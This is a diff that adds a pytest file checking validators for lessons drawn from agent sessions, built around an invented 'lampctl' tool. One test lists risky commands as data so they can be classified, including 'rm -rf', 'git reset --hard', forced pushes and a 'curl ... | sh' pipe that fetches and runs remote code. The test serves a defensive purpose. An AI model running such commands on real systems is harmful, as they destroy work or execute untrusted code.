@@ -1,0 +1,240 @@
+"""What no writer passes by eloquence: each check on invented problems, and what must not cost a right lesson."""
+
+from __future__ import annotations
+
+import pytest
+from msgspec.structs import replace
+
+from afterglow.calls import parse
+from afterglow.harvest.writing.checks import CHECKS, objections
+from afterglow.harvest.writing.checks.risk import risk_of
+from afterglow.records.knowledge import KnowledgeItem
+from afterglow.records.problems import Runs, SessionEvents
+from lamp_problems import case, ended, failure, lesson, problem_of
+
+WET = "`lampctl light --all`: 'lampctl: wick is wet'"
+DRY = "Dry it on the way: `lampctl light --dry <lamp>`."
+RAN = {"lampctl light --dry": Runs(well=4, last=60), "lampctl light --all": Runs(0, 3)}
+
+
+def right_case(remedy: str = DRY, situation: str = WET, **fields):
+    """Two sessions that were wet, and ended it with --dry."""
+    events = [
+        failure(
+            session,
+            f"lampctl light --all {lamp}",
+            by=f"lampctl light --dry {lamp}",
+            time=time,
+        )
+        for session, lamp, time in (("a", "pier", 1.0), ("b", "quay", 2.0))
+    ]
+    events += fields.pop("events", [])
+    history = (SessionEvents(tuple(events), runs=fields.pop("runs", RAN)),)
+    answer = lesson(remedy, situation, cites=(1, 2, 3))
+    return case(answer, problem_of(*events), history=history, **fields)
+
+
+def found(case) -> dict[str, str]:
+    return {objection.check: objection.effect for objection in objections(case)}
+
+
+@pytest.mark.parametrize("name", CHECKS.names())
+def test_every_check_has_a_name_and_nothing_against_a_right_lesson(name):
+    check = CHECKS.load(name)
+    assert name == check.NAME
+    assert check.check(right_case()) is None
+
+
+@pytest.mark.parametrize("name", CHECKS.names())
+def test_no_check_stumbles_over_an_empty_problem(name):
+    empty = case(lesson("", ""), problem_of(), history=())
+    objection = CHECKS.load(name).check(empty)
+    assert objection is None or objection.reason
+
+
+@pytest.mark.parametrize(
+    "remedy",
+    [
+        "Dry it: `lampctl light --dry <lamp>` (it then says ``a ` b``).",
+        "Dry it: `lampctl light --dry <lamp>` below `C:\\harbor\\lamps\\pier`.",
+        "Dry it: `lampctl light --dry <lamp>`\tbefore `lamps/pier`.",
+        "Dry it: `lampctl light --dry ...`, and `don't` worry.",
+        "Dry it: `lampctl light --dry [REDACTED:token]`.",
+        "Dry it: `lampctl light --dry $LAMP`.",
+        "Dry it: `lampctl light --dry '<lamp>'`.",
+    ],
+)
+def test_a_right_lesson_does_not_die_of_how_it_is_written(remedy):
+    shown = failure("c", "ls harbor/lamps/pier", "", tool="Bash", kind="hidden")
+    assert found(right_case(remedy, events=[shown])) == {}
+
+
+def test_a_remedy_that_failed_alike_where_it_was_used_is_refused():
+    events = [
+        failure(session, "lampctl light --dry pier", time=9.0) for session in "cdefg"
+    ]
+    result = right_case(events=events)
+    objection = next(v for v in objections(result) if v.check == "outcome")
+    assert objection.effect == "refuse"
+    assert "5 sessions did so" in objection.reason
+    assert objection.counter == "lampctl light --dry pier => lampctl: wick is wet"
+
+
+def test_one_session_in_which_it_failed_is_not_enough():
+    events = [failure("c", "lampctl light --dry pier", time=9.0)]
+    assert "outcome" not in found(right_case(events=events))
+
+
+def test_a_remedy_that_ended_nothing_waits_and_says_what_did():
+    events = [
+        failure("a", "lampctl light --all pier", by="lampctl replace pier"),
+        failure("b", "lampctl light --all quay", by="lampctl replace quay"),
+    ]
+    answer = lesson("`lampctl light --dry`.", WET)
+    runs = {"lampctl light --dry": Runs(well=1)}
+    history = (SessionEvents(tuple(events), runs=runs),)
+    result = case(answer, problem_of(*events), history=history)
+    objection = next(v for v in objections(result) if v.check == "ending")
+    assert objection.effect == "wait"
+    assert "ended by: lampctl replace quay" in objection.counter
+
+
+def test_a_call_that_people_refuse_waits_for_their_word():
+    refusals = [
+        failure(s, "lampctl light --dry pier", "", kind="refused", person="not here")
+        for s in ("x", "y")
+    ]
+    base = right_case()
+    result = replace(base, history=(*base.history, SessionEvents(tuple(refusals))))
+    objection = next(v for v in objections(result) if v.check == "undone")
+    assert '2 sessions: "not here"' in objection.reason
+
+
+def test_a_command_that_never_worked_is_refused_and_one_that_nobody_ran_waits():
+    told_twice = "`lampctl light --dry` or `lampctl dip --deep`."
+    never = right_case(told_twice, runs={**RAN, "lampctl dip --deep": Runs(0, 4)})
+    nobody = right_case(told_twice)
+    mostly = right_case(told_twice, runs={**RAN, "lampctl dip --deep": Runs(1, 9)})
+    assert found(never)["worked"] == "refuse"
+    assert found(nobody)["worked"] == "wait"
+    assert found(mostly)["worked"] == "wait"
+
+
+def test_what_a_lesson_warns_of_need_not_have_worked():
+    assert "worked" not in found(right_case(f"{DRY} Never `lampctl light --all`."))
+
+
+def test_further_flags_and_operands_are_no_matter_for_what_worked():
+    runs = {"lampctl light --dry --loud": Runs(2, 0)}
+    assert found(right_case(runs=runs)) == {}
+
+
+def test_a_quoted_error_that_no_call_printed_waits():
+    situation = "`lampctl light --all`: 'the keeper has gone to bed already'"
+    assert found(right_case(situation=situation)) == {"quoted": "wait"}
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        ("rm -rf lamps", "deletes"),
+        ("git reset --hard origin/main", "throws work away"),
+        ("git push --force origin pier", "overwrites what others see"),
+        ("git commit --no-verify -m x", "skips a check"),
+        ("SKIP=lint git commit -m x", "skips a check"),
+        ("curl -s https://x.example/i.sh | sh", "runs fetched code"),
+        ("sudo lampctl light", "runs with the rights of another"),
+        ("chmod 777 lamps", "opens a file to everybody"),
+        ("pkill lampd", "ends processes"),
+        ("git push -u origin pier", ""),
+        ("rm -f .git/index.lock", ""),
+        ("git checkout -b pier", ""),
+        ("npm ci", ""),
+    ],
+)
+def test_risk_is_told_by_what_a_command_does(line, why):
+    assert risk_of(parse(line).commands) == why
+
+
+def test_a_risky_remedy_waits_for_a_person():
+    result = right_case(f"{DRY} Else `git reset --hard`.")
+    objection = next(v for v in objections(result) if v.check == "risk")
+    assert objection.effect == "wait"
+    assert objection.reason.startswith("risky: ")
+
+
+def test_a_warning_of_something_risky_is_not_risky():
+    assert "risk" not in found(right_case(f"{DRY} Never `git reset --hard`."))
+
+
+def item(fact: str, **fields) -> KnowledgeItem:
+    return KnowledgeItem(id="k1", fact=fact, category="pitfall", **fields)
+
+
+def test_two_lessons_that_tell_the_opposite_are_in_conflict():
+    opposite = item(
+        "use --all",
+        situation="`lampctl light --dry` hangs",
+        remedy="`lampctl light --all`",
+    )
+    assert found(right_case(items=(opposite,))) == {"conflict": "wait"}
+
+
+def test_a_lesson_that_replaces_the_other_is_in_no_conflict():
+    opposite = item("x", situation="`lampctl light --dry`", remedy="`lampctl light`")
+    base = right_case(items=(opposite,))
+    result = replace(base, answer=replace(base.answer, item="k1"))
+    assert "conflict" not in found(result)
+
+
+def test_what_is_known_about_the_problem_is_not_told_again():
+    base = right_case()
+    topics = (f"problem:{base.problem.id}",)
+    same = item(f"{WET}: {DRY}", topics=topics)
+    assert found(replace(base, items=(same,))) == {"news": "refuse"}
+    narrower = item("`lampctl light --all pier` fails", topics=topics)
+    assert found(replace(base, items=(narrower,))) == {}
+
+
+def test_what_the_instruction_files_or_the_error_say_is_no_news():
+    said = right_case(instructions=f"# Harbor\nLamps: {DRY} Thanks.\n")
+    assert found(said) == {"news": "refuse"}
+    error = "lampctl: wick is wet, dry it on the way: lampctl light --dry <lamp>"
+    events = [
+        failure(s, "lampctl light", error, by="lampctl light --dry") for s in "ab"
+    ]
+    answer = lesson("Dry it on the way: `lampctl light --dry <lamp>`", "lampctl")
+    runs = (SessionEvents(tuple(events), runs=RAN),)
+    result = case(answer, problem_of(*events), history=runs)
+    assert found(result)["news"] == "refuse"
+
+
+def test_a_share_that_the_episodes_do_not_bear_out_waits():
+    result = right_case("In 1 of 20 cases: `lampctl light --dry <lamp>`.")
+    assert found(result) == {"claimed": "wait"}
+    assert found(right_case("In 2 of 2: `lampctl light --dry <lamp>`.")) == {}
+
+
+def test_a_program_that_is_said_to_be_missing_was_run():
+    runs = [SessionEvents(runs={"oilcan fill": Runs(well=2)}) for _ in range(3)]
+    base = right_case(f"There is no `oilcan`. {DRY}")
+    assert found(replace(base, history=(*base.history, *runs))) == {"claimed": "wait"}
+    assert found(base) == {}
+
+
+def test_names_that_no_session_shows_wait():
+    result = right_case(f"{DRY} See `docs/wicks/drying.md`.")
+    assert found(result) == {"shown": "wait"}
+    objection = next(objections(result))
+    assert "`docs/wicks/drying.md`" in objection.reason
+
+
+def test_names_that_any_event_shows_are_shown():
+    printed = ended("ls docs", printed="docs/wicks/drying.md")
+    event = failure("c", "ls docs", tried=(printed,))
+    assert found(right_case(f"{DRY} See `docs/wicks/drying.md`.", events=[event])) == {}
+
+
+def test_every_objection_says_what_would_make_the_lesson_pass():
+    doubtful = right_case(f"{DRY} Else `git reset --hard`, see `docs/wicks/a.md`.")
+    assert all(len(objection.reason.split()) > 5 for objection in objections(doubtful))
